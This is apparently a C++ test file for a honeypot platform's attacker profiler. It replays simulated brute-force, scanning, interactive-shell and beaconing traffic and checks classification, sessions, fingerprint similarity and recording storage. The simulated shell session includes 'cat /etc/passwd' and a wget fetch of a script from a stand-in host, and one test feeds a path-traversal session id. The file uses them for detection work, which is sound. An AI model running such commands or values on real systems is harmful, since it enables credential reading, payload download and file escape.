// The profiler as `decnet serve` runs it: a replayed fixture of four attackers — a brute-forcer,
// a slow scanner, an interactive shell and a beacon — sent over TCP with their own timestamps,
// then read back over the API (sessions, behaviour class, score) and from a webhook receiver
// subscribed to attacker events (session started / ended, exactly one attacker.scored).
#include <gtest/gtest.h>

#include <cstdio>
#include <nlohmann/json.hpp>

#include "core/base64.h"
#include "core/hash.h"
#include "serve_support.h"
#include "webhook_receiver.h"

namespace decnet::app {
namespace {

using namespace decnet::testing;
using nlohmann::json;

constexpr std::int64_t kBase = 1'777'700'000;  // 2026-05-02, seconds

std::string at(double offset_s) {
  const auto micros = static_cast<std::int64_t>(offset_s * 1e6 + 0.5);
  const std::time_t seconds = kBase + micros / 1'000'000;
  std::tm tm{};
  gmtime_r(&seconds, &tm);
  char buf[64];
  std::snprintf(buf, sizeof buf, "%04d-%02d-%02dT%02d:%02d:%02d.%06lld+00:00", tm.tm_year + 1900,
                tm.tm_mon + 1, tm.tm_mday, tm.tm_hour, tm.tm_min, tm.tm_sec,
                static_cast<long long>(micros % 1'000'000));
  return buf;
}

std::string line(double t, const std::string& decky, const std::string& app,
                 const std::string& msgid, const std::string& sd) {
  return "<134>1 " + at(t) + " " + decky + " " + app + " - " + msgid + " [relay@55555 " + sd + "]";
}

// The fixture: which attacker does what, and when (seconds from kBase).
std::vector<std::string> fixture() {
  std::vector<std::string> lines;
  // 203.0.113.10 tries ten passwords over SSH, half a second apart.
  for (int i = 0; i < 10; ++i) {
    lines.push_back(line(i * 0.5, "decky-01", "auth-helper", "auth_attempt",
                         "username=\"root\" principal=\"root\" secret_printable=\"pw" +
                             std::to_string(i) + "\" src_ip=\"203.0.113.10\""));
  }
  // 203.0.113.20 touches three services of a decky, one every fifteen seconds.
  const char* services[] = {"ftp", "postgres", "smtp"};
  for (int i = 0; i < 6; ++i) {
    lines.push_back(line(100 + i * 15, "decky-02", services[i % 3], "connection",
                         "src_ip=\"203.0.113.20\" src_port=\"4000" + std::to_string(i) + "\""));
  }
  // 203.0.113.30 logs in and types: a connection, nine commands, a disconnect, all in session s1.
  const double typed[] = {0, .2, .5, 1, 5, 5.1, 5.3, 10, 10.1, 10.2, 12};
  const char* commands[] = {"uname -a", "id", "whoami", "cat /etc/passwd",           "ps aux",
                            "ls -la",   "w",  "uptime", "wget http://x.example/a.sh"};
  for (std::size_t i = 0; i < std::size(typed); ++i) {
    const double t = 200 + typed[i];
    const std::string sid = "sid=\"s1\" src_ip=\"203.0.113.30\"";
    if (i == 0) {
      lines.push_back(line(t, "decky-03", "ssh", "connect", sid));
    } else if (i + 1 == std::size(typed)) {
      lines.push_back(line(t, "decky-03", "ssh", "disconnect", sid));
    } else {
      lines.push_back(
          line(t, "decky-03", "ssh", "command", sid + " command=\"" + commands[i - 1] + "\""));
    }
  }
  // 203.0.113.40 calls home every minute, give or take three seconds.
  for (int i = 0; i < 10; ++i) {
    lines.push_back(line(400 + i * 60 + (i % 2 ? 3 : -3), "web-01", "http", "request",
                         "method=\"GET\" path=\"/beacon\" remote_addr=\"203.0.113.40\""));
  }
  return lines;
}

json attacker_by_ip(ServeProcess& serve, const std::string& ip) {
  const auto page = serve.api("GET", "/api/v1/attackers?search=" + ip);
  if (page.status != 200 || page.body["data"].empty()) return nullptr;
  return page.body["data"][0];
}

TEST(ServeProfiler, FixtureYieldsFourClassesSessionsAndOneScore) {
  WebhookReceiver receiver;
  ServeProcess serve(
      {{"DECNET_PROFILER_SCORE_THRESHOLDS", "50"}, {"DECNET_WEBHOOK_ALLOW_PRIVATE", "true"}});
  ASSERT_TRUE(serve.wait_ready()) << serve.output();
  const auto created = serve.api(
      "POST", "/api/v1/webhooks",
      json{{"name", "siem"}, {"url", receiver.url()}, {"simple_events", {"AttackerDetail"}}}
          .dump());
  ASSERT_EQ(created.status, 201) << created.raw;
  // The webhook worker picks the subscription up on its announcement: wait until a probe
  // attacker's attacker.observed arrives before sending the fixture.
  const auto delivered = [&](std::string_view topic, std::string_view needle) {
    std::size_t n = 0;
    for (const auto& r : receiver.requests()) {
      const auto it = r.headers.find("x-decnet-event-topic");
      if (it != r.headers.end() && it->second == topic &&
          r.body.find(needle) != std::string::npos) {
        ++n;
      }
    }
    return n;
  };
  ASSERT_TRUE(wait_until([&] {
    TcpClient probe(serve.tcp_port());
    probe.send(octet_frame(line(0, "decky-09", "ftp", "connection", "src_ip=\"192.0.2.99\"")));
    return delivered("attacker.observed", "192.0.2.99") > 0;
  })) << serve.output();

  TcpClient client(serve.tcp_port());
  std::string stream;
  for (const auto& l : fixture()) stream += octet_frame(l);
  ASSERT_TRUE(client.send(stream));

  const std::map<std::string, std::string> expected = {{"203.0.113.10", "brute_force"},
                                                       {"203.0.113.20", "slow_scan"},
                                                       {"203.0.113.30", "interactive"},
                                                       {"203.0.113.40", "beaconing"}};
  for (const auto& [ip, behavior_class] : expected) {
    SCOPED_TRACE(ip);
    json attacker;
    ASSERT_TRUE(wait_until([&] {
      attacker = attacker_by_ip(serve, ip);
      return attacker.is_object() && attacker["behavior_class"] == behavior_class;
    })) << attacker.dump()
        << serve.output();
  }

  // The shell: one session, logged in, its nine commands in order, ended by its disconnect.
  const auto shell = attacker_by_ip(serve, "203.0.113.30");
  json sessions;
  ASSERT_TRUE(wait_until([&] {
    sessions =
        serve.api("GET", "/api/v1/attackers/" + shell["uuid"].get<std::string>() + "/sessions")
            .body;
    return sessions.is_object() && sessions["total"] == 1 && sessions["data"][0]["open"] == false;
  })) << sessions.dump();
  const auto& s = sessions["data"][0];
  EXPECT_EQ(s["session_id"], "s1");
  EXPECT_EQ(s["service"], "ssh");
  EXPECT_EQ(s["outcome"], "logged_in");
  EXPECT_EQ(s["end_reason"], "end_event");
  EXPECT_EQ(s["event_count"], 11);
  EXPECT_EQ(s["command_count"], 9);
  EXPECT_DOUBLE_EQ(s["duration_s"].get<double>(), 12.0);
  ASSERT_EQ(s["commands"].size(), 9u);
  EXPECT_EQ(s["commands"][0]["command"], "uname -a");
  EXPECT_EQ(s["commands"][8]["command"], "wget http://x.example/a.sh");
  const auto one = serve.api("GET", "/api/v1/sessions/" + s["uuid"].get<std::string>());
  ASSERT_EQ(one.status, 200) << one.raw;
  EXPECT_EQ(one.body["events_total"], 11);
  EXPECT_EQ(serve.api("GET", "/api/v1/sessions/0190c5a0-0000-7000-8000-000000000001").status, 404);
  EXPECT_EQ(serve.api("GET", "/api/v1/sessions/not-a-session").status, 422);

  // The slow scanner's connections are sessions too, closed by silence later: three opened.
  const auto scanner = attacker_by_ip(serve, "203.0.113.20");
  EXPECT_TRUE(wait_until([&] {
    return serve.api("GET", "/api/v1/attackers/" + scanner["uuid"].get<std::string>() + "/sessions")
               .body["total"] == 6;
  }));
  // The brute-forcer's attempts carry no session id and open no connection: no session.
  const auto brute = attacker_by_ip(serve, "203.0.113.10");
  EXPECT_EQ(serve.api("GET", "/api/v1/attackers/" + brute["uuid"].get<std::string>() + "/sessions")
                .body["total"],
            0);

  // Detail: the shell's behaviour with its reasons and phases.
  const auto detail = serve.api("GET", "/api/v1/attackers/" + shell["uuid"].get<std::string>());
  ASSERT_EQ(detail.status, 200);
  const auto& behaviour = detail.body["behaviour"];
  EXPECT_EQ(behaviour["behavior_class"], "interactive");
  EXPECT_GE(behaviour["score"].get<int>(), 50);
  EXPECT_FALSE(behaviour["reasons"].empty());
  // The attacker row lists the session's commands.
  json listed;
  ASSERT_TRUE(wait_until([&] {
    listed = serve.api("GET", "/api/v1/attackers/" + shell["uuid"].get<std::string>()).body;
    return listed["commands"].size() == 9;
  })) << listed["commands"].dump();
  EXPECT_EQ(listed["commands"][0]["command"], "uname -a");
  EXPECT_EQ(listed["commands"][0]["service"], "ssh");
  EXPECT_EQ(listed["commands"][0]["decky"], "decky-03");
  bool execution = false;
  for (const auto& p : behaviour["phases"]) execution = execution || p["phase"] == "execution";
  EXPECT_TRUE(execution) << behaviour.dump();
  const auto beacon = attacker_by_ip(serve, "203.0.113.40");
  const auto beacon_detail =
      serve.api("GET", "/api/v1/attackers/" + beacon["uuid"].get<std::string>());
  EXPECT_NEAR(beacon_detail.body["behaviour"]["beacon_interval_s"].get<double>(), 60.0, 1.0);

  // Every scored attacker has a timing vector; the beacon's nearest are the other three.
  const auto neighbours = serve.api(
      "GET", "/api/v1/attackers/" + beacon["uuid"].get<std::string>() + "/similar?kind=timing");
  ASSERT_EQ(neighbours.status, 200) << neighbours.raw;
  EXPECT_GE(neighbours.body["data"].size(), 3u);
  for (const auto& n : neighbours.body["data"]) {
    EXPECT_NE(n["attacker_uuid"], beacon["uuid"]);
    EXPECT_GE(n["distance"].get<double>(), 0.0);
  }
  EXPECT_EQ(serve
                .api("GET", "/api/v1/attackers/" + brute["uuid"].get<std::string>() +
                                "/similar?kind=cmd_ngram")
                .status,
            404);  // it ran no command

  // Filter and order.
  const auto brute_list = serve.api("GET", "/api/v1/attackers?behavior_class=brute_force");
  ASSERT_EQ(brute_list.body["total"], 1) << brute_list.raw;
  EXPECT_EQ(brute_list.body["data"][0]["ip"], "203.0.113.10");
  const auto by_score = serve.api("GET", "/api/v1/attackers?sort=score&limit=1");
  EXPECT_EQ(by_score.body["data"][0]["ip"], "203.0.113.30");
  EXPECT_EQ(serve.api("GET", "/api/v1/attackers?behavior_class=wizard").status, 422);

  // Events: the shell's session started and ended, and one score crossing in the whole run.
  ASSERT_TRUE(wait_until([&] {
    return delivered("attacker.session.ended", "203.0.113.30") == 1 &&
           delivered("attacker.scored", "203.0.113") >= 1;
  })) << serve.output();
  EXPECT_EQ(delivered("attacker.session.started", "203.0.113.30"), 1u);
  EXPECT_EQ(delivered("attacker.scored", "203.0.113"), 1u);
  EXPECT_EQ(delivered("attacker.scored", "203.0.113.30"), 1u);
}

// Fingerprints of the attackers' software become vectors of their kind: the prober's JARM of
// their TLS servers, the JA3 of the client hellos they sent, and the HASSH of their SSH clients
// as a decky's ssh service reports it. Two builds of one TLS client
// (one extension apart) are nearer each other than either is to another client; a probe is not
// a step the attacker took, so it opens no session.
TEST(ServeProfiler, FingerprintsBecomeVectorsOfTheirKind) {
  ServeProcess serve;
  ASSERT_TRUE(serve.wait_ready()) << serve.output();
  const std::string chrome =
      "771,4865-4866-4867-49195-49199-49196-49200,0-23-65281-10-11-35-16,29-23-24,0";
  const std::string chrome_next =
      "771,4865-4866-4867-49195-49199-49196-49200,0-23-65281-10-11-35-16-17513,29-23-24,0";
  const std::string curl = "771,49200-49196-49192-49188-159-107-57,11-10-13-15,23-25-28,0-1-2";
  const auto hello = [](double t, const std::string& ip, const std::string& ja3,
                        const std::string& text) {
    return line(t, "decky-05", "https", "tls_client_hello",
                "src_ip=\"" + ip + "\" ja3=\"" + ja3 + "\" ja3_string=\"" + text + "\"");
  };
  const auto jarm = [](double t, const std::string& ip, const std::string& hash) {
    return line(t, "decnet-prober", "prober", "jarm_fingerprint",
                "target_ip=\"" + ip + "\" target_port=\"443\" jarm_hash=\"" + hash + "\"");
  };
  const auto ssh = [](double t, const std::string& ip, const std::string& hassh,
                      const std::string& algorithms) {
    return line(
        t, "decky-05", "ssh", "connection",
        "src_ip=\"" + ip + "\" hassh=\"" + hassh + "\" hassh_algorithms=\"" + algorithms + "\"");
  };
  const std::string openssh =
      "curve25519-sha256,ecdh-sha2-nistp256,diffie-hellman-group14-sha256;"
      "chacha20-poly1305@openssh.com,aes128-ctr,aes256-gcm@openssh.com;"
      "umac-64-etm@openssh.com,hmac-sha2-256-etm@openssh.com;none,zlib@openssh.com";
  const std::string openssh_older =
      "curve25519-sha256,ecdh-sha2-nistp256,diffie-hellman-group14-sha256;"
      "chacha20-poly1305@openssh.com,aes128-ctr;"
      "umac-64-etm@openssh.com,hmac-sha2-256-etm@openssh.com;none,zlib@openssh.com";
  const std::string bot = "diffie-hellman-group1-sha1;3des-cbc,blowfish-cbc;hmac-md5;none";
  std::string stream;
  stream += octet_frame(ssh(0, "198.51.100.7", core::md5_hex(openssh), openssh));
  stream += octet_frame(ssh(0, "198.51.100.8", core::md5_hex(openssh_older), openssh_older));
  stream += octet_frame(ssh(0, "198.51.100.9", core::md5_hex(bot), bot));
  stream += octet_frame(hello(0, "198.51.100.1", "a0e9f5d64349fb13191bc781f81f42e1", chrome));
  stream += octet_frame(hello(1, "198.51.100.2", "b32309a26951912be7dba376398abc3b", chrome_next));
  stream += octet_frame(hello(2, "198.51.100.3", "3b5074b1b5d032e5620f69f9f700ff0e", curl));
  stream += octet_frame(
      jarm(3, "198.51.100.4", "27d40d40d29d40d1dc42d43d00041d4689ee210389f4f6b4b5b1b93f92252d"));
  stream += octet_frame(
      jarm(4, "198.51.100.5", "27d40d40d29d40d1dc42d43d00041d0000000000000000000000000000000a"));
  stream += octet_frame(
      jarm(5, "198.51.100.6", "07d14d16d21d21d07c42d41d00041d24a458a375eef0c576d23a7bab9a9fb1"));
  TcpClient client(serve.tcp_port());
  ASSERT_TRUE(client.send(stream));

  const auto nearest = [&](const std::string& ip, const std::string& kind) {
    const auto attacker = attacker_by_ip(serve, ip);
    if (!attacker.is_object()) return json();
    const auto r = serve.api("GET", "/api/v1/attackers/" + attacker["uuid"].get<std::string>() +
                                        "/similar?kind=" + kind);
    return r.status == 200 && r.body["data"].size() == 2 ? r.body["data"] : json();
  };
  json ja3;
  ASSERT_TRUE(wait_until([&] { return !(ja3 = nearest("198.51.100.1", "ja3")).is_null(); }))
      << serve.output();
  EXPECT_EQ(ja3[0]["attacker_uuid"], attacker_by_ip(serve, "198.51.100.2")["uuid"]) << ja3.dump();
  EXPECT_LT(ja3[0]["distance"].get<double>(), ja3[1]["distance"].get<double>());
  json by_hassh;
  ASSERT_TRUE(wait_until([&] { return !(by_hassh = nearest("198.51.100.7", "hassh")).is_null(); }))
      << serve.output();
  EXPECT_EQ(by_hassh[0]["attacker_uuid"], attacker_by_ip(serve, "198.51.100.8")["uuid"])
      << by_hassh.dump();
  EXPECT_LT(by_hassh[0]["distance"].get<double>(), by_hassh[1]["distance"].get<double>());
  json by_jarm;
  ASSERT_TRUE(wait_until([&] { return !(by_jarm = nearest("198.51.100.4", "jarm")).is_null(); }))
      << serve.output();
  EXPECT_EQ(by_jarm[0]["attacker_uuid"], attacker_by_ip(serve, "198.51.100.5")["uuid"])
      << by_jarm.dump();
  const auto probed = attacker_by_ip(serve, "198.51.100.4");
  EXPECT_EQ(serve.api("GET", "/api/v1/attackers/" + probed["uuid"].get<std::string>() + "/sessions")
                .body["total"],
            0);
}

TEST(ServeProfiler, OpenSessionsSurviveARestart) {
  ServeProcess serve;
  ASSERT_TRUE(serve.wait_ready()) << serve.output();
  {
    TcpClient client(serve.tcp_port());
    ASSERT_TRUE(client.send(
        octet_frame(line(0, "decky-01", "ftp", "connection", "src_ip=\"203.0.113.77\""))));
  }
  json attacker;
  ASSERT_TRUE(wait_until([&] {
    attacker = attacker_by_ip(serve, "203.0.113.77");
    return attacker.is_object() &&
           serve.api("GET",
                     "/api/v1/attackers/" + attacker["uuid"].get<std::string>() + "/sessions")
                   .body["total"] == 1;
  })) << serve.output();
  serve.restart();
  ASSERT_TRUE(serve.wait_ready()) << serve.output();
  {
    TcpClient client(serve.tcp_port());
    ASSERT_TRUE(client.send(
        octet_frame(line(5, "decky-01", "ftp", "disconnect", "src_ip=\"203.0.113.77\""))));
  }
  json sessions;
  ASSERT_TRUE(wait_until([&] {
    sessions =
        serve.api("GET", "/api/v1/attackers/" + attacker["uuid"].get<std::string>() + "/sessions")
            .body;
    return sessions["total"] == 1 && sessions["data"][0]["open"] == false;
  })) << sessions.dump()
      << serve.output();
  EXPECT_EQ(sessions["data"][0]["event_count"], 2);
  EXPECT_EQ(sessions["data"][0]["end_reason"], "end_event");
}

// A recording as a decky sends it: the shard's lines in base64 pieces, then session_recorded.
std::vector<std::string> recorded_session(const std::string& sid, const std::string& ip,
                                          double at) {
  std::string shard =
      "{\"sid\":\"" + sid +
      "\",\"hdr\":{\"version\":2,\"width\":80,\"height\":24,\"timestamp\":1777700000,"
      "\"env\":{}}}\n";
  const std::string typed = "uname -a\rid\rcat /etc/passwd\rwhoami\rexit\r";
  double t = 0;
  for (const char c : typed) {
    t += 0.15;
    std::string d(1, c);
    if (c == '\r') d = "\\r";
    char line[160];
    std::snprintf(line, sizeof line, "{\"sid\":\"%s\",\"t\":%.6f,\"ch\":\"i\",\"d\":\"%s\"}\n",
                  sid.c_str(), t, d.c_str());
    shard += line;
    if (c == '\r') {
      std::snprintf(line, sizeof line,
                    "{\"sid\":\"%s\",\"t\":%.6f,\"ch\":\"o\",\"d\":\"output\\r\\nroot@web:~# \"}\n",
                    sid.c_str(), t + 0.05);
      shard += line;
    }
  }
  std::vector<std::string> lines;
  const std::size_t piece = 1000;
  for (std::size_t off = 0, seq = 0; off < shard.size(); off += piece, ++seq) {
    const bool last = off + piece >= shard.size();
    lines.push_back(line(at, "omega-decky", "sessrec", "session_recording_chunk",
                         "sid=\"" + sid + "\" service=\"ssh\" src_ip=\"" + ip + "\" seq=\"" +
                             std::to_string(seq) + "\" last=\"" + (last ? "true" : "false") +
                             "\" data_b64=\"" + core::base64_encode(shard.substr(off, piece)) +
                             "\""));
  }
  lines.push_back(line(at + t, "omega-decky", "sessrec", "session_recorded",
                       "sid=\"" + sid + "\" service=\"ssh\" src_ip=\"" + ip + "\" duration_s=\"" +
                           std::to_string(t) + "\" bytes=\"" + std::to_string(shard.size()) +
                           "\" truncated=\"false\""));
  return lines;
}

TEST(ServeProfiler, ARecordedSessionBecomesObservationsAndAReplay) {
  ServeProcess serve;
  ASSERT_TRUE(serve.wait_ready()) << serve.output();
  {
    TcpClient client(serve.tcp_port());
    std::string stream;
    for (const auto& l : recorded_session("rec1", "198.51.100.7", 0)) stream += octet_frame(l);
    // A session id that tries to leave the artifacts directory.
    for (const auto& l : recorded_session("../../../../tmp/escape", "198.51.100.8", 0)) {
      stream += octet_frame(l);
    }
    ASSERT_TRUE(client.send(stream));
  }
  json attacker;
  json sessions;
  ASSERT_TRUE(wait_until([&] {
    attacker = attacker_by_ip(serve, "198.51.100.7");
    if (!attacker.is_object()) return false;
    sessions =
        serve.api("GET", "/api/v1/attackers/" + attacker["uuid"].get<std::string>() + "/sessions")
            .body;
    return sessions["total"] == 1 && sessions["data"][0]["has_recording"] == true;
  })) << sessions.dump()
      << serve.output();
  const auto& s = sessions["data"][0];
  EXPECT_EQ(s["session_id"], "rec1");
  EXPECT_EQ(s["outcome"], "logged_in");
  EXPECT_EQ(s["event_count"], 1);  // the pieces of a recording are transport, not events

  const auto replay =
      serve.api("GET", "/api/v1/sessions/" + s["uuid"].get<std::string>() + "/recording");
  ASSERT_EQ(replay.status, 200) << replay.raw;
  EXPECT_EQ(replay.body["truncated"], false);
  ASSERT_GT(replay.body["events"].size(), 40u);
  EXPECT_EQ(replay.body["events"][0]["ch"], "i");
  EXPECT_EQ(replay.body["events"][0]["d"], "u");

  json observations;
  ASSERT_TRUE(wait_until([&] {
    observations = serve
                       .api("GET", "/api/v1/attackers/" + attacker["uuid"].get<std::string>() +
                                       "/observations")
                       .body;
    return observations.is_array() && !observations.empty();
  })) << serve.output();
  std::map<std::string, json> by_primitive;
  for (const auto& o : observations) by_primitive[o["primitive"]] = o["value"];
  EXPECT_EQ(by_primitive["motor.input_modality"], "typed") << observations.dump();
  EXPECT_EQ(by_primitive["temporal.lifecycle_markers.landing_ritual"], "present");
  // What was typed is never stored as text.
  EXPECT_EQ(observations.dump().find("passwd"), std::string::npos);

  // Both recordings typed the same: each attacker's keystroke vector is the other's neighbour,
  // and the vector store keeps them across a restart.
  const auto uuid = attacker["uuid"].get<std::string>();
  const auto similar = [&] {
    return serve.api("GET", "/api/v1/attackers/" + uuid + "/similar?kind=keystroke&k=5");
  };
  json near;
  ASSERT_TRUE(wait_until([&] {
    near = similar().body;
    return near.is_object() && near["data"].size() == 1;
  })) << near.dump();
  EXPECT_EQ(near["data"][0]["ip"], "198.51.100.8");
  EXPECT_NEAR(near["data"][0]["distance"].get<double>(), 0.0, 1e-4);
  EXPECT_EQ(serve.api("GET", "/api/v1/attackers/" + uuid + "/similar?kind=keystroke&k=99").status,
            422);
  EXPECT_EQ(serve.api("GET", "/api/v1/attackers/" + uuid + "/similar?kind=shoe_size").status, 422);
  serve.restart();
  ASSERT_TRUE(serve.wait_ready()) << serve.output();
  const auto after = similar();
  ASSERT_EQ(after.status, 200) << after.raw;
  ASSERT_EQ(after.body["data"].size(), 1u);
  EXPECT_EQ(after.body["data"][0]["ip"], "198.51.100.8");

  // The hostile session id became a file name inside the artifacts directory.
  EXPECT_FALSE(std::filesystem::exists("/tmp/escape.jsonl"));
  std::size_t files = 0;
  for (const auto& f :
       std::filesystem::recursive_directory_iterator(serve.data_dir() / "artifacts")) {
    if (!f.is_regular_file()) continue;
    ++files;
    const auto name = f.path().filename().string();
    EXPECT_TRUE(name == "rec1.jsonl" || name.starts_with("x-")) << name;
  }
  EXPECT_EQ(files, 2u);
}

TEST(ServeProfiler, ABadScoreThresholdStopsStartUpNamingTheVariable) {
  TempDir dir;
  for (const std::string bad : {"30,abc", "0", "101", ", ,"}) {
    SCOPED_TRACE(bad);
    auto env = isolated_env(dir);
    env["DECNET_PROFILER_SCORE_THRESHOLDS"] = bad;
    const auto r = run_command({decnet_binary(), "serve"}, env);
    EXPECT_EQ(r.status, 2) << r.output;
    EXPECT_NE(r.output.find("DECNET_PROFILER_SCORE_THRESHOLDS"), std::string::npos) << r.output;
  }
}

}  // namespace
}  // namespace decnet::app
